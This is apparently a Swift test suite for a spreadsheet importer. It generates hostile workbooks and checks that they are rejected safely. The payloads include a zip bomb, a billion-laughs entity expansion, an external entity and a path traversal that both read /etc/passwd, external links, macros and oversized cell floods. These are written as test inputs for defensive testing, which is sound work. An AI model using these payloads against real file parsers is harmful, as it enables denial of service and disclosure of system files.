import HusokTestSupport
import Testing

/// Workbooks that are made to do harm, or that came to harm.
@Suite("Hostile workbooks")
struct HostileWorkbookTests {
  private let husok = Husok()

  init() {
    TemporaryFolder.write(Husok.practice, to: husok.store)
  }

  /// Makes workbooks out of parts, without a library's help.
  private static let maker = """
    import zipfile
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pack = "http://schemas.openxmlformats.org/package/2006/relationships"
    def book(name, sheet, strings="", styles="", extra={}, target="worksheets/sheet1.xml", doctype="",
             properties=""):
        with zipfile.ZipFile(name, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("[Content_Types].xml", "<Types/>")
            z.writestr("_rels/.rels", f'<Relationships xmlns="{pack}"><Relationship Id="r1" '
                f'Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
            z.writestr("xl/workbook.xml", f'<workbook xmlns="{main}" xmlns:r="{rel}">{properties}<sheets>'
                '<sheet name="One" sheetId="1" r:id="r1"/></sheets></workbook>')
            z.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{pack}"><Relationship '
                f'Id="r1" Type="{rel}/worksheet" Target="{target}"/></Relationships>')
            if strings: z.writestr("xl/sharedStrings.xml", f'<sst xmlns="{main}">{strings}</sst>')
            if styles: z.writestr("xl/styles.xml", f'<styleSheet xmlns="{main}">{styles}</styleSheet>')
            if isinstance(sheet, str):
                sheet = [f'<worksheet xmlns="{main}"><sheetData>', sheet, '</sheetData></worksheet>']
            if sheet:
                with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
                    f.write(('<?xml version="1.0"?>' + doctype).encode())
                    for part in sheet: f.write(part.encode())
            for key, value in extra.items(): z.writestr(key, value)
    def row(n, *cells):
        return f'<row r="{n}">' + "".join(cells) + "</row>"
    def text(ref, value, type="inlineStr"):
        return f'<c r="{ref}" t="{type}"><is><t>{value}</t></is></c>'
    head = row(1, text("A1", "No."), text("B1", "New: progress"))
    note = head + row(2, text("A2", "CN26-3.2"), text("B2", "held"))

    """

  /// Runs a program behind the maker, in the folder.
  private func make(_ program: String) {
    let script = husok.folder.file("make.py")
    TemporaryFolder.write(Array((HostileWorkbookTests.maker + program).utf8), to: script)
    #expect(husok.shell("cd '\(husok.folder.path)' && python3 '\(script)'") == 0)
  }

  /// Imports a file, with a limit to memory and time that nothing good comes near.
  private func load(_ name: String) -> Husok.Result {
    let output = husok.folder.file("output")
    let errors = husok.folder.file("errors")
    let words = ["--today", "2026-07-24", "import", husok.folder.file(name)]
    let line = ([Husok.path] + words).map(Husok.quoted).joined(separator: " ")
    let code = husok.shell("ulimit -t 30; \(line) >'\(output)' 2>'\(errors)' </dev/null")
    let text = { (path: String) in
      String(decoding: TemporaryFolder.read(path) ?? [], as: UTF8.self)
    }
    return Husok.Result(output: text(output), errors: text(errors), code: code)
  }

  @Test("A bomb, a definition, a path out of the archive and too much of anything are refused")
  func bombs() {
    make(
      """
      space = " " * (1 << 20)
      book("zip.xlsx", (space for n in range(200)))
      book("entity.xlsx", ['<w><sheetData><row><c t="str"><v>&b;</v></c></row></sheetData></w>'],
           doctype='<!DOCTYPE w [<!ENTITY a "' + "x" * 1000 + '"><!ENTITY b "' + "&a;" * 1000 + '">]>')
      book("external.xlsx", ['<w>&b;</w>'], doctype='<!DOCTYPE w [<!ENTITY b SYSTEM "file:///etc/passwd">]>')
      book("path.xlsx", "", target="../../../../../../etc/passwd")
      book("cells.xlsx", ["<w>"] + ['<c/>' * 100_000 for n in range(40)] + ["</w>"])
      book("columns.xlsx", row(1, text("ZZZZ1", "x")))
      book("many.xlsx", row(1, *[text("", "x") for n in range(100_000)]))
      book("rows.xlsx", '<row r="99999999999"/>')
      book("merged.xlsx", [f'<worksheet xmlns="{main}"><sheetData>', head, row(1048576, text("XFD1048576", "x")),
           '</sheetData><mergeCells>', '<mergeCell ref="A1:XFD1048576"/>' * 1000, '</mergeCells></worksheet>'])
      book("open.xlsx", ['<worksheet><sheetData><row>'])
      with zipfile.ZipFile("members.xlsx", "w") as z:
          for n in range(5000): z.writestr(f"xl/{n}", "")
      with zipfile.ZipFile("text.xlsx", "w") as z: z.writestr("word/document.xml", "<w/>")
      """)
    let before = husok.storeText()
    for name in [
      "zip", "entity", "external", "path", "cells", "columns", "many", "rows", "merged", "open",
      "members", "text",
    ] {
      let result = load("\(name).xlsx")
      #expect(result.code == 65, "\(name): \(result)")
      #expect(result.errors.split(separator: "\n").count == 1, "\(name): \(result.errors)")
      #expect(result.output.isEmpty)
    }
    #expect(husok.storeText() == before)
  }

  @Test("Formulas, links and macros are never looked at; what stands in the cells is read")
  func harmless() {
    make(
      """
      call = '<c r="B2" t="str"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>held</v></c>'
      sheet = head + row(2, text("A2", "CN26-3.2"), call)
      link = f'<Relationships xmlns="{pack}"><Relationship Id="r1" Type="{rel}/externalLink" '
      link += 'Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
      book("links.xlsm", sheet, extra={"xl/vbaProject.bin": "MACRO", "xl/externalLinks/externalLink1.xml": "<x/>",
           "xl/worksheets/_rels/sheet1.xml.rels": link})
      """)
    let result = load("links.xlsm")
    #expect(result.code == 0 && result.output.hasPrefix("CN26-3.2  note: held"), "\(result)")
  }

  @Test("Each way to write a text, a number and a day is read")
  func cells() {
    make(
      """
      strings = "<si><r><t>he</t></r><r><rPr><b/></rPr><t>ld</t></r><rPh><t>XX</t></rPh></si>"
      styles = '<numFmts><numFmt numFmtId="200" formatCode="[$-412]yyyy&quot;년&quot; m&quot;월&quot;"/></numFmts>'
      styles += '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="200"/></cellXfs>'
      due = row(1, text("A1", "No."), text("B1", "Due"), text("C1", "New: progress"), text("D1", "Reason"))
      def one(name, b="", c="", **more):
          book(name, due + row(2, text("A2", "CN26-3.2"), b, c), strings, styles, **more)
      one("shared.xlsx", c='<c r="C2" t="s"><v>0</v></c>')
      one("day.xlsx", '<c r="B2" s="1"><v>46356</v></c>')
      one("korean.xlsx", '<c r="B2" s="2"><v>46356</v></c>')
      one("mac.xlsx", '<c r="B2" s="1"><v>44894</v></c>', properties='<workbookPr date1904="1"/>')
      one("iso.xlsx", '<c r="B2" t="d"><v>2026-11-30T00:00:00</v></c>')
      one("escaped.xlsx", c='<c r="C2" t="str"><v>a_x0041_b_x005F_c</v></c>')
      one("fault.xlsx", c='<c r="C2" t="e"><f>A1/0</f><v>#DIV/0!</v></c>')
      one("number.xlsx", c='<c r="C2"><v>0.30000000000000004</v></c>')
      """)
    let day = "CN26-3.2  due date: 31 Jul 2026 → 30 Nov 2026"
    let said = [
      "shared": "CN26-3.2  note: held", "day": day, "korean": day, "mac": day, "iso": day,
      "escaped": "CN26-3.2  note: aAb_c", "number": "CN26-3.2  note: 0.3",
    ]
    for (name, line) in said {
      TemporaryFolder.write(Husok.practice, to: husok.store)
      let result = load("\(name).xlsx")
      #expect(result.code == 0 && result.lines.contains(line), "\(name): \(result)")
    }
    let fault = load("fault.xlsx")
    #expect(fault.code == 65 && fault.errors.contains("One: Row 2: CN26-3.2"), "\(fault)")
  }

  @Test("A workbook that is cut anywhere is told as such, and nothing changes")
  func cut() {
    let path = husok.folder.file("out.xlsx")
    _ = husok.on("2026-07-24", ["export", "-o", path])
    let bytes = TemporaryFolder.read(path) ?? []
    #expect(bytes.count > 5000)
    let before = husok.storeText()
    for end in stride(from: 4, to: bytes.count, by: 100) {
      TemporaryFolder.write(Array(bytes[..<end]), to: husok.folder.file("cut.xlsx"))
      let result = load("cut.xlsx")
      #expect(result.code == 65 && result.errors.contains("damaged"), "\(end): \(result)")
    }
    #expect(husok.storeText() == before)
  }

  @Test("Old, encrypted and other spreadsheets are told what to do")
  func others() {
    let old: [UInt8] =
      [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1] + Array(repeating: 0, count: 600)
    let name = "EncryptedPackage".utf8.flatMap { byte -> [UInt8] in [byte, 0] }
    for (bytes, word) in [(old, ".xls"), (old + name + old, "password")] {
      TemporaryFolder.write(bytes, to: husok.folder.file("old.xls"))
      let result = load("old.xls")
      #expect(result.code == 65 && result.errors.contains(word), "\(result)")
    }
  }
}
